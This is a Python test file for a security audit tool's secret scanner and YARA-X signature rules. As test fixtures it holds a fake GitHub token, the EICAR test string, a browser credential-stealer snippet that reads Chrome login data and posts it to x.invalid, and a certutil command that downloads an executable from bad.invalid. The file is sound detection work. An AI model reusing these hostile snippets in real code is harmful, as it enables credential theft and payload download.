"""Secrets (detect-secrets patterns) and YARA-X signature rules."""

from __future__ import annotations

from skillyard.audit.content import TextUnit
from skillyard.audit.engine import contextualise
from skillyard.audit.mdparse import LineIndex
from skillyard.audit.model import Hit
from skillyard.audit.rules import load_rules
from skillyard.audit.secrets import scan_secrets
from skillyard.audit.signatures import scan_signatures
from skillyard.skill import Provenance, parse_skill_md

RULES = load_rules()
TOKEN = "ghp_" + "R8dK2mQ9vLx7PzW4nB6tYc3HfJ5gA1sEo0Ui"


def secrets_in(text: str) -> list[Hit]:
    unit = TextUnit("a.md", text, "markdown")
    return scan_secrets(unit, LineIndex(unit.text))


def test_tokens_are_found_and_never_printed() -> None:
    found = secrets_in(f"line\nexport GH={TOKEN}\n")
    assert [h.rule for h in found] == ["hardcoded-secret"]
    assert found[0].line == 2 and TOKEN not in found[0].evidence
    assert found[0].evidence.startswith("GitHub Token: ghp_")


def test_documentation_placeholders_are_skipped() -> None:
    assert secrets_in("AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n") == []
    assert secrets_in("-----BEGIN RSA PRIVATE KEY-----\n...\n-----END RSA PRIVATE KEY-----\n") == []
    body = "MIIEowIBAAKCAQEA" + "q7Zx" * 30
    assert secrets_in(f"-----BEGIN RSA PRIVATE KEY-----\n{body}\n") != []


def test_signatures_match_bytes_of_any_file() -> None:
    eicar = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
    hits = scan_signatures([("notes.bin", b"\x00\x01" + eicar)], RULES)
    assert [h.rule for h in hits] == ["yara-eicar-test-file"]
    stealer = (b'p = home + "/Library/Application Support/Google/Chrome/Default/Login Data"\n'
               b'q = home + "/Local State"\nrequests.post("https://x.invalid", files=f)\n')
    assert {h.rule for h in scan_signatures([("s.py", stealer)], RULES)} == {
        "yara-browser-credential-stealer"}
    assert scan_signatures([("ok.md", b"# Chrome stores bookmarks in Bookmarks.\n")], RULES) == []


def test_signature_quoted_in_documentation_is_softened() -> None:
    text = ("---\nname: lolbins\ndescription: Hunts LOLBins.\n---\n\n# Hunting\n\n"
            "Attackers run `certutil.exe -urlcache -split -f http://bad.invalid/p.exe` to "
            "download payloads.\n")
    skill = parse_skill_md(text, folder_name="lolbins", skill_id="x",
                           provenance=Provenance("x", "folder"))
    unit = TextUnit("SKILL.md", text, "markdown")
    hits = scan_signatures([("SKILL.md", text.encode())], RULES)
    assert [h.rule for h in hits] == ["yara-windows-hidden-download-exec"]
    softened = contextualise(skill, hits, [unit])
    assert softened[0].severity == "medium" and softened[0].inert
    code = text.replace("Attackers run `", "```\n").replace("` to\ndownload", "\n```\n")
    hits = scan_signatures([("SKILL.md", code.encode())], RULES)
    kept = contextualise(skill, hits, [TextUnit("SKILL.md", code, "markdown")])
    assert kept[0].severity == ""  # in a code block it is runnable: stays critical
